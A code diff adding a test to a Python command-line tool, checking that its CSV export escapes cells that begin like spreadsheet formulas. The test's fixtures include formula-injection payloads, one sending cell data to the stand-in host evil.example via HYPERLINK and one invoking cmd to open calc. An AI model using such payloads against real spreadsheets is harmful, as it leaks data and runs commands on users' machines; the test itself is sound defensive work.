@@ -9,6 +9,8 @@ careless command line would.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -429,3 +431,52 @@ def test_property_no_human_output_line_starts_a_workflow_command(
             assert "internal error" not in result.err, result.err
             assert_safe(result.out, f"{command} stdout")
             assert_safe(result.err, f"{command} stderr")
+
+
+# -- spreadsheets --------------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Board")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd",
+    "-2+3",
+    "\tTabbed",
+]
+
+
+def test_csv_cells_that_start_like_a_formula_are_quoted(tmp_path: Path) -> None:
+    config = GOOD["tpm.yaml"] + (
+        "scoring:\n  dimensions:\n"
+        '    "=1+1": {weight: 1}\n'
+        '    "@x": {weight: 1}\n'
+        "    clarity: {weight: 1}\n"
+    )
+    touchpoints = GOOD["touchpoints/main.yaml"]
+    names = ["All-hands", "Daily huddle", "Best-practice slot"]
+    for old, formula in zip(names, FORMULAS[:3], strict=True):
+        touchpoints = touchpoints.replace(f"name: {old}", f"name: {yaml_quoted(formula)}")
+    touchpoints = touchpoints.replace(
+        "    owner: anna\n",
+        "    owner: anna\n    ratings:\n      - date: 2026-11-01\n        n: 9\n"
+        '        scores: {"=1+1": 4.5, "@x": 2, clarity: 1}\n',
+        1,
+    )
+    root = make_project(
+        tmp_path, {**GOOD, "tpm.yaml": config, "touchpoints/main.yaml": touchpoints}
+    )
+    run = tpm(root, "score", "touchpoints", "--format", "csv", "--as-of", "2026-11-20")
+    assert run.returncode == 0, run.stderr
+    rows = list(csv.reader(io.StringIO(run.stdout)))
+    header = rows[0]
+    assert header[-3:] == ["'=1+1", "'@x", "clarity"]
+    names = {row[0]: row[1] for row in rows[1:]}
+    assert names["all-hands"] == "'" + FORMULAS[0]
+    assert names["huddle"] == "'" + FORMULAS[1]
+    assert names["board-slot"] == "'" + FORMULAS[2]
+    scored = next(row for row in rows[1:] if row[0] == "all-hands")
+    # numbers stay numbers: the dimension means on 1-5 as 0-100 ((m - 1) / 4 * 100)
+    assert [float(v) for v in scored[-3:]] == [87.5, 25.0, 0.0]
+    for row in rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a number may start so
